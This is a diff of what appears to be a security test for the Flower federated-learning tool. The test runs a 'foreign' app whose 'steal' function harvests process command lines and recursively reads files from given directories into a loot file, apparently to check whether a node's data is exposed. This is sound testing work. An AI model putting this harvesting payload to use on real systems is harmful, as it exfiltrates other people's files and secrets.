@@ -42,7 +42,7 @@ def steal(message, context):
     for pid in (os.getpid(), os.getppid()):
         given.append(pathlib.Path(f"/proc/{pid}/cmdline").read_text())
     loot = {"given": json.dumps(given)}
-    for place in map(pathlib.Path, json.loads(message.content["ask"]["places"])):
+    for place in map(pathlib.Path, message.content["ask"]["places"].split(":")):
         for path in [place, *place.rglob("*")]:
             try:
                 loot[str(path)] = path.read_bytes().hex()
@@ -168,11 +168,11 @@ class Site:
         (app / "foreign.py").write_text(FOREIGN)
         (app / "pyproject.toml").write_text(PROJECT)
         loot.unlink(missing_ok=True)
-        places = json.dumps([*map(str, (self.node, self.table.parent))])
-        config = f"output={json.dumps(str(loot))} places={json.dumps(places)}"
+        config = f'output="{loot}" places="{self.node}:{self.table.parent}"'
         env = self.env | {"FLWR_HOME": str(self.server / "flwr")}
         command = [Path(sys.executable).with_name("flwr"), "run", app, "safle", "-c", config]
-        subprocess.run(command, env=env, check=True, capture_output=True)
+        done = subprocess.run(command, env=env, capture_output=True, text=True, check=False)
+        assert done.returncode == 0, done.stdout + done.stderr
         eventually(loot.exists, explain=lambda: self.log("server") + self.log("node"))
         return eventually(lambda: json.loads(loot.read_text() or "null"))
 
